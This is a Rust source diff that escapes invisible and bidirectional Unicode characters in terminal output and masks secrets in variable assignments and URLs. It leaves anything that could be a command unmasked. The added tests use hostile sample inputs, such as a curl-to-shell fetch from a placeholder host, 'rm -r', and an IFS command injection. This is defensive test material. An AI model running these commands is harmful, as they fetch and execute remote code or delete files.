@@ -5,14 +5,24 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
-/// Control characters (an escape sequence, say) and those that turn the direction of writing are
+/// Characters that turn the direction of writing, break lines or take no place.
+fn is_unseen(c: char) -> bool {
+    matches!(
+        c,
+        '\u{61c}'
+            | '\u{200b}'..='\u{200f}'
+            | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{2069}'
+            | '\u{feff}'
+            | '\u{e0000}'..='\u{e007f}'
+    )
+}
+
+/// Control characters (an escape sequence, say) and those that are unseen or turn the direction are
 /// shown, not obeyed: no name and no value can hide, or look like, something else on a terminal.
 /// Line feeds stay.
 pub fn visible(text: &str) -> Cow<'_, str> {
-    let is_obeyed = |c: char| {
-        c != '\n'
-            && (c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
-    };
+    let is_obeyed = |c: char| c != '\n' && (c.is_control() || is_unseen(c));
     if !text.contains(is_obeyed) {
         return Cow::Borrowed(text);
     }
@@ -27,29 +37,79 @@ pub fn visible(text: &str) -> Cow<'_, str> {
     Cow::Owned(shown)
 }
 
-/// Words in the names of variables whose values are secrets.
-const SECRET: &str = "SECRET|TOKEN|PASSW(?:OR)?D|PASSPHRASE|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|\
-                      CREDENTIAL";
+/// A name, `=`, and a value in quotes or without; the password in an address.
+static ASSIGNED: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r#"\b([A-Za-z][A-Za-z0-9_]*)(\s*=\s*)(["']?)"#).ok());
+static IN_ADDRESS: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s:/@]*:").ok());
 
-static SECRETS: LazyLock<Option<[Regex; 2]>> = LazyLock::new(|| {
-    let assigned =
-        format!(r#"(?i)\b([A-Z0-9_]*(?:{SECRET})[A-Z0-9_]*\s*=\s*)("[^"]*"|'[^']*'|\S+)"#);
-    let in_address = r"\b([a-zA-Z][a-zA-Z0-9+.-]*://[^\s:/@]*:)[^\s/@]+@";
-    Some([Regex::new(&assigned).ok()?, Regex::new(in_address).ok()?])
-});
+/// True for the name of a variable whose value is a secret.
+fn is_secret(name: &str) -> bool {
+    let name = name.to_ascii_uppercase();
+    let words: Vec<&str> = name.split('_').collect();
+    let holds = |part: &&str| name.contains(*part);
+    ["SECRET", "TOKEN", "PASSWORD", "PASSWD", "PASSPHRASE", "CREDENTIAL", "APIKEY"]
+        .iter()
+        .any(holds)
+        || words.contains(&"PASS")
+        || words.len() > 1 && (words.contains(&"KEY") || words.contains(&"AUTH"))
+}
 
-/// What looks like a secret is masked: the value that is assigned to a variable with such a name,
+/// The length of what can be nothing but a literal: a command that is hidden would be worse than a
+/// secret that is shown.
+fn literal(text: &str) -> usize {
+    let is_none = |c: char| c.is_whitespace() || "\"'$`\\(){};|&<>".contains(c);
+    text.find(is_none).unwrap_or(text.len())
+}
+
+/// What looks like a secret is masked: a literal that is assigned to a variable with such a name,
 /// and the password in an address.
 pub fn masked(text: &str) -> Cow<'_, str> {
     if !text.contains('=') && !text.contains("://") {
         return Cow::Borrowed(text);
     }
-    let Some([assigned, in_address]) = &*SECRETS else { return Cow::Borrowed(text) };
-    let text = assigned.replace_all(text, "$1***");
-    match in_address.replace_all(&text, "$1***@") {
-        Cow::Borrowed(_) => text,
-        Cow::Owned(masked) => Cow::Owned(masked),
+    let (Some(assigned), Some(in_address)) = (&*ASSIGNED, &*IN_ADDRESS) else {
+        return Cow::Borrowed(text);
+    };
+    let mut secrets: Vec<(usize, usize)> = Vec::new();
+    for found in assigned.captures_iter(text).filter(|found| is_secret(&found[1])) {
+        let begin = found.get(0).map_or(0, |found| found.end());
+        let end = begin + literal(&text[begin..]);
+        let quote = &found[3];
+        let ends_well = if quote.is_empty() {
+            text[end..].starts_with(char::is_whitespace) || end == text.len()
+        } else {
+            text[end..].starts_with(quote)
+        };
+        if ends_well && end > begin {
+            secrets.push((begin, end));
+        }
     }
+    for found in in_address.find_iter(text) {
+        let begin = found.end();
+        let rest = &text[begin..begin + literal(&text[begin..])];
+        // A port, and a path behind it, are no password.
+        let digits = rest.trim_start_matches(|c: char| c.is_ascii_digit());
+        let is_port = digits.len() < rest.len() && digits.starts_with('/');
+        if let Some(at) = rest.rfind('@').filter(|at| *at > 0 && !is_port) {
+            secrets.push((begin, begin + at));
+        }
+    }
+    secrets.sort_unstable();
+    let mut shown = String::new();
+    let mut from = 0;
+    for (begin, end) in secrets {
+        if begin < from {
+            continue;
+        }
+        shown.extend([&text[from..begin], "***"]);
+        from = end;
+    }
+    if from == 0 {
+        return Cow::Borrowed(text);
+    }
+    shown.push_str(&text[from..]);
+    Cow::Owned(shown)
 }
 
 /// Both.
@@ -72,9 +132,17 @@ mod tests {
     fn secrets_are_masked_and_nothing_else_is() {
         for (text, expected) in [
             ("API_KEY=abc go run .", "API_KEY=*** go run ."),
-            ("env DB_PASSWORD='two words' ./app", "env DB_PASSWORD=*** ./app"),
-            ("GITHUB_TOKEN = \"ghp\" # .env:3", "GITHUB_TOKEN = *** # .env:3"),
+            ("env DB_PASS='abc' STRIPE_KEY=x ./app", "env DB_PASS='***' STRIPE_KEY=*** ./app"),
+            ("GITHUB_TOKEN = \"ghp\" # .env:3", "GITHUB_TOKEN = \"***\" # .env:3"),
             ("psql postgres://me:hunter2@db/x", "psql postgres://me:***@db/x"),
+            ("psql 'postgres://me:p@ss/w@db/x'", "psql 'postgres://me:***@db/x'"),
+            // What may be a command is shown, whatever the variable is called.
+            ("TOKEN=\"$(curl evil | sh)\" true", "TOKEN=\"$(curl evil | sh)\" true"),
+            ("TOKEN=`evil` sh", "TOKEN=`evil` sh"),
+            ("A_TOKEN='rm -r x' sh -c \"$A_TOKEN\"", "A_TOKEN='rm -r x' sh -c \"$A_TOKEN\""),
+            ("x://u:$(touch${IFS}x)@h", "x://u:$(touch${IFS}x)@h"),
+            ("http://127.0.0.1:5000/@vite/client", "http://127.0.0.1:5000/@vite/client"),
+            ("MONKEY=1 KEY=2 BYPASS=3", "MONKEY=1 KEY=2 BYPASS=3"),
             ("PORT=3000 ./app --key=value", "PORT=3000 ./app --key=value"),
             ("http://127.0.0.1:5000/", "http://127.0.0.1:5000/"),
             ("http://a:80/b@c", "http://a:80/b@c"),
